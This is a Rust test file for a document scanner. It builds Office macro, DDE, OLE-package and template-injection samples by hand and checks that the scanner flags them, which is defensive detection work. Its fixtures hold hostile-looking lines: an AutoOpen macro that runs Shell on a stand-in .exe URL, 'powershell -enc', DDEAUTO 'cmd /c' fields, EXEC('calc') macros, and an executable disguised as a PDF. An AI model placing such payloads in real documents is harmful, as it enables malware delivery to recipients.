//! Documents made by hand, as a whole: what comes out of them and what is told of them.

use gatepost_mail::{DefectKind, FeatureKind, Limits, Message};

use super::{biff, crypt, native, ovba, pcode};
use crate::cfb::tests::compose;
use crate::{Format, open, read_file};

/// Opens a file and everything in it.
fn opened(file: Vec<u8>) -> Message {
    read_file(file.into(), Some("file"), &Limits::default())
}

/// Names of features with their details, names of the parts, and links.
fn told(message: &Message) -> (Vec<String>, Vec<String>, Vec<&str>) {
    let features = message.features.iter().map(|found| format!("{}: {}", found.kind.name(), found.detail));
    let parts = message.parts.iter().skip(1).map(|part| part.names.join("|"));
    (features.collect(), parts.collect(), message.links.iter().map(|link| link.url.as_str()).collect())
}

/// The unpacked directory of a project with those modules, whose source begins at an offset.
fn directory(modules: &[(&str, usize)]) -> Vec<u8> {
    let record =
        |id: u16, data: &[u8]| [&id.to_le_bytes()[..], &(data.len() as u32).to_le_bytes(), data].concat();
    let mut out = record(3, &1252u16.to_le_bytes());
    for (name, offset) in modules {
        out.extend(record(0x19, name.as_bytes()));
        out.extend(record(0x1a, name.as_bytes()));
        out.extend(record(0x31, &(*offset as u32).to_le_bytes()));
        out.extend(record(0x21, b""));
    }
    out
}

/// A project of one module, with that compiled code.
fn project(source: &str, cache: &[u8]) -> Vec<u8> {
    let module = [cache, &ovba::tests::compress(source.as_bytes())].concat();
    let dir = ovba::tests::compress(&directory(&[("Module1", cache.len())]));
    compose(&[
        ("Macros/VBA/dir", &dir),
        ("Macros/VBA/Module1", &module),
        ("Macros/VBA/_VBA_PROJECT", b"\xcc\x61 AutoOpen CreateObject"),
        ("WordDocument", &[0; 600]),
    ])
}

const HEAD: &str = "Attribute VB_Name = \"Module1\"\r\n";

#[test]
fn macros_and_what_they_do() {
    let source = format!("{HEAD}Sub AutoOpen()\r\nShell \"http://a.example/x.exe\"\r\nEnd Sub\r\n");
    let message = opened(project(&source, b""));
    let (features, parts, links) = told(&message);
    assert_eq!(features, ["MACRO: Module1", "MACRO_AUTO: autoopen", "MACRO_SUSPICIOUS: shell"]);
    assert_eq!((parts, links), (vec!["vba/Module1.bas".to_owned()], vec!["http://a.example/x.exe"]));
    let module = &message.parts[1];
    assert_eq!((&module.body[..], module.declared.as_str()), (source.as_bytes(), "text/plain"));
    assert_eq!(module.charset.as_deref(), Some("windows-1252"));
    // Modules that Office writes by itself hold nothing.
    assert_eq!(told(&opened(project(&format!("{HEAD}Option Explicit\r\n"), b""))).0, [""; 0]);
}

#[test]
fn source_that_is_not_what_was_compiled() {
    let compiled = pcode::tests::cache(&["http://evil.example", "powershell -enc"]);
    let honest = format!("{HEAD}Sub a()\nx = \"http://evil.example\"\ny = \"powershell -enc\"\nEnd Sub");
    let stomped = |source: &str| {
        let message = opened(project(source, &compiled));
        let found = message.features.into_iter().find(|found| found.kind == FeatureKind::MacroStomped);
        found.map(|found| found.detail)
    };
    assert_eq!(stomped(&honest), None);
    let other = format!("{HEAD}Sub a()\nMsgBox \"hello\"\nx\nEnd Sub");
    assert_eq!(stomped(&other).as_deref(), Some("Module1: \"http://evil.example\" is not in its source"));
    assert_eq!(stomped(HEAD).as_deref(), Some("Module1: compiled code without source"));
    // More lines were compiled than there are, and names are known that the source has not.
    let compiled = pcode::tests::cache(&["one", "two", "six", "ten"]);
    let message = opened(project(&format!("{HEAD}Sub a()\nEnd Sub"), &compiled));
    let (features, ..) = told(&message);
    assert!(
        features.iter().any(|found| found.starts_with("MACRO_STOMPED: createobject is in the compiled code")),
        "{features:?}"
    );
}

#[test]
fn source_that_no_directory_leads_to() {
    let module = [&b"junk"[..], &carved(b"Attribute VB_Name = \"x\"\r\nSub Document_Open()\r\n")].concat();
    let (features, parts, _) = told(&opened(compose(&[("VBA/lost", &module), ("VBA/dir", b"broken")])));
    assert_eq!(features, ["MACRO: lost", "MACRO_AUTO: document_open"]);
    assert_eq!(parts, ["vba/lost.cls"]);
}

/// Compressed with the one copy that source always begins with.
fn carved(source: &[u8]) -> Vec<u8> {
    assert!(source.starts_with(b"Attribute "));
    let rest: Vec<u8> = source[8..].chunks(8).flat_map(|eight| [&[0], eight].concat()).collect();
    let chunk = [&b"\0Attribut"[..], &rest].concat();
    [&[1][..], &((chunk.len() - 1) as u16 | 0xb000).to_le_bytes(), &chunk].concat()
}

#[test]
fn workbooks() {
    let message = opened(compose(&[("Workbook", &biff::tests::workbook())]));
    let (features, parts, _) = told(&message);
    assert_eq!(
        features,
        ["DDE: cmd|/c", "MACRO_XLM: Macro1 (hidden)", "MACRO_AUTO: auto_open", "MACRO_SUSPICIOUS: EXEC"]
    );
    assert_eq!(parts, ["xlm/macros.txt"]);
    assert_eq!(&message.parts[1].body[..], b"Macro1!A1: =EXEC(\"calc\")\n");
}

#[test]
fn packages_and_links_in_compound_files() {
    let package = native::tests::package("bill.pdf", "C:\\bill.exe", b"MZ evil");
    let native = [&(package.len() as u32).to_le_bytes()[..], &package].concat();
    let wide: Vec<u8> = "http://a.example/x.hta\0".encode_utf16().flat_map(u16::to_le_bytes).collect();
    let moniker = [
        &b"\x01\0\0\x02"[..],
        b"\xe0\xc9\xea\x79\xf9\xba\xce\x11\x8c\x82\x00\xaa\x00\x4b\xa9\x0b",
        &(wide.len() as u32).to_le_bytes(),
        &wide,
    ]
    .concat();
    let file = compose(&[("ObjectPool/_1/\u{1}Ole10Native", &native), ("ObjectPool/_2/\u{1}Ole", &moniker)]);
    let message = opened(file);
    let (mut features, parts, links) = told(&message);
    features.sort();
    assert_eq!(
        features,
        ["EMBEDDED_FILE: bill.pdf | bill.exe", "EXTERNAL_TEMPLATE: link http://a.example/x.hta"]
    );
    assert_eq!((parts, links), (vec!["bill.pdf|bill.exe".to_owned()], vec!["http://a.example/x.hta"]));
}

#[test]
fn fields_of_old_word_documents() {
    let wide = |text: &str| text.encode_utf16().flat_map(u16::to_le_bytes).collect::<Vec<u8>>();
    for text in [
        b"x\x13 DDEAUTO cmd \"/c\" \x14y\x15".to_vec(),
        wide("x\u{13} DDE \u{13} QUOTE 65\u{15}\u{14}y\u{15}"),
    ] {
        let (features, ..) = told(&opened(compose(&[("WordDocument", &[&[0; 512][..], &text].concat())])));
        assert_eq!(features.len(), 1, "{features:?}");
        assert!(features[0].starts_with("DDE: DDE"), "{features:?}");
    }
}

#[test]
fn notes_give_their_files() {
    let file = |content: &[u8]| {
        let mark = b"\xe7\x16\xe3\xbd\x65\x26\x11\x45\xa4\xc4\x8d\x4d\x0b\x7a\x9e\xac";
        [&mark[..], &(content.len() as u64).to_le_bytes(), &[0; 12], content, &[7; 16]].concat()
    };
    let name: Vec<u8> = "a\\open.txt\0".encode_utf16().flat_map(u16::to_le_bytes).collect();
    let properties =
        [&[2, 0][..], b"\x9b\x1d\0\x20\x9c\x1d\0\x1c", &(name.len() as u32).to_le_bytes(), &name].concat();
    let head = b"\xe4\x52\x5c\x7b\x8c\xd8\xa7\x4d\xae\xb1\x53\x78\xd0\x29\x96\xd3";
    let section =
        [&head[..], &properties, &file(b"\x89PNG\r\n\x1a\n"), &file(b"an old note"), b"end"].concat();
    let (features, parts, _) = told(&opened(section));
    assert_eq!(features, ["EMBEDDED_FILE: open.txt"]);
    assert_eq!(parts, ["", "open.txt"]);
}

#[test]
fn documents_as_xml() {
    let blob = "0M8R4KGxGuE="; // The beginning of a compound file.
    for (xml, features, parts) in [
        (
            format!("<?xml version='1.0'?><w:wordDocument xmlns:w='x'><w:binData w:name='editdata.mso'>{blob}</w:binData><w:attachedTemplate w:val='http://a/x.dot'/></w:wordDocument>"),
            vec!["EXTERNAL_TEMPLATE: attachedTemplate http://a/x.dot"],
            vec!["editdata.mso"],
        ),
        (
            format!("<?xml version='1.0'?><?mso-application progid='Word.Document'?><pkg:package><pkg:part pkg:name='/word/vbaProject.bin'><pkg:binaryData>{blob}\n</pkg:binaryData></pkg:part><pkg:part pkg:name='/r'><pkg:xmlData><Relationship Type='a/frame' Target='//h/s' TargetMode='External'/></pkg:xmlData></pkg:part></pkg:package>"),
            vec!["EXTERNAL_TEMPLATE: frame //h/s"],
            vec!["word/vbaProject.bin"],
        ),
        (
            "<?xml version='1.0'?><office:document xmlns:office='urn:oasis:names:tc:opendocument:xmlns:office:1.0'><script:event-listener script:event-name='dom:load' xlink:href='vnd.sun.star.script:x'/><script:module script:name='M' script:language='StarBasic'>Sub x&#10;Shell(&quot;a&quot;)</script:module></office:document>".to_owned(),
            vec!["MACRO: M", "MACRO_AUTO: dom:load vnd.sun.star.script:x", "MACRO_SUSPICIOUS: shell"],
            vec!["vba/M.bas"],
        ),
        (
            "<?xml version='1.0'?><w:wordDocument><w:p><w:fldChar w:fldCharType='begin'/><w:instrText> DD</w:instrText><w:instrText>EAUTO c</w:instrText><w:fldChar w:fldCharType='end'/></w:p></w:wordDocument>".to_owned(),
            vec!["DDE: DDEAUTO c"],
            vec![],
        ),
        ("<?xml version='1.0'?><w:wordDocument><a href='http://a'/></w:wordDocument>".to_owned(), vec![], vec![]),
    ] {
        let (told_features, told_parts, _) = told(&opened(xml.clone().into_bytes()));
        assert_eq!(told_features, features, "{xml}");
        assert_eq!(told_parts, parts, "{xml}");
    }
}

#[test]
fn wrapped_objects() {
    use std::io::Write;
    let mut packer = flate2::write::ZlibEncoder::new(Vec::new(), flate2::Compression::default());
    packer.write_all(&compose(&[("a", b"content")])).expect("to memory");
    let file = [
        &b"ActiveMime\0\0\x01\xf0\x04\0\0\0\xff\xff\xff\xff"[..],
        &[0; 28],
        &packer.finish().expect("to memory"),
    ]
    .concat();
    let message = open(Format::ActiveMime, file.into(), &Limits::default());
    assert!(message.parts[1].body.starts_with(crate::cfb::MAGIC));
    let empty = open(Format::ActiveMime, "ActiveMime".into(), &Limits::default());
    assert_eq!(empty.defects.len(), 1);
}

#[test]
fn sheets_as_text() {
    let sylk = "ID;P\nO;E\nNN;NAuto_open;ER1C1\nC;Y1;X1;K0;EEXEC(\"calc\")\nE\n";
    let (features, parts, _) = told(&opened(sylk.into()));
    assert_eq!(features, ["MACRO_XLM: SYLK", "MACRO_AUTO: auto_open", "MACRO_SUSPICIOUS: EXEC"]);
    assert_eq!(parts, ["xlm/macros.txt"]);
    assert_eq!(told(&opened("a,=cmd|'/c calc'!A0\n".into())).0, ["DDE: =cmd|'/c calc'!A"]);
}

/// Excel's own password opens a workbook; others stay closed, and so do documents whose header says that they are
/// encrypted.
#[test]
fn locked_documents() {
    let closed =
        |message: &Message| message.defects.iter().any(|defect| defect.kind == DefectKind::Encrypted);
    let message = opened(compose(&[("Workbook", &crypt::tests::locked_workbook("VelvetSweatshop"))]));
    let (features, parts, _) = told(&message);
    assert!(features.contains(&"MACRO_SUSPICIOUS: EXEC".to_owned()), "{features:?}");
    assert_eq!((parts, closed(&message)), (vec!["xlm/macros.txt".to_owned(), "Workbook".to_owned()], false));
    let message = opened(compose(&[("Workbook", &crypt::tests::locked_workbook("nobody knows"))]));
    assert!(told(&message).0.is_empty() && closed(&message));
    let mut word = vec![0; 600];
    word[11] = 1;
    let slides = [&[0; 12][..], &0xf3d1_c4dfu32.to_le_bytes()].concat();
    for (stream, body) in [("WordDocument", &word), ("Current User", &slides)] {
        assert!(closed(&opened(compose(&[(stream, body)]))), "{stream}");
    }
    assert!(closed(&opened(compose(&[("EncryptionInfo", b"?"), ("EncryptedPackage", b"?")]))));
}

/// Word opens a page in the form of mail that is called a document, and one that a PDF stands before.
#[test]
fn pages_in_the_form_of_mail() {
    use crate::read;
    let page = "MIME-Version: 1.0\r\nContent-Type: multipart/related; boundary=\"--x\"\r\n\r\n----x\r\nContent-Type: text/html\r\n\r\n\
                hello\r\n----x\r\nContent-Location: editdata.mso\r\nContent-Transfer-Encoding: base64\r\n\r\nQWN0aXZlTWltZQAA\r\n----x--\r\n";
    let mail = |content: &str, name: &str| {
        let parts = format!("--o\r\nContent-Type: application/msword{name}\r\n\r\n{content}\r\n--o--\r\n");
        read(
            format!("From: a\r\nContent-Type: multipart/mixed; boundary=o\r\n\r\n{parts}").into(),
            &Limits::default(),
        )
    };
    let opened = |message: &Message| message.parts.iter().any(|part| part.body.starts_with(b"ActiveMime"));
    assert!(opened(&mail(page, "; name=a.doc")));
    assert!(opened(&mail(&format!("%PDF-1.7\r\n1 0 obj\r\n{page}"), "; name=a.doc")));
    assert!(opened(&mail(
        &page.to_ascii_uppercase().replace("QWN0AXZLTWLTZQAA", "QWN0aXZlTWltZQAA"),
        "; name=a.doc"
    )));
    assert!(!mail("no MIME-Version: multipart/x", "; name=a.doc").parts.iter().any(|part| part.depth > 1));
}
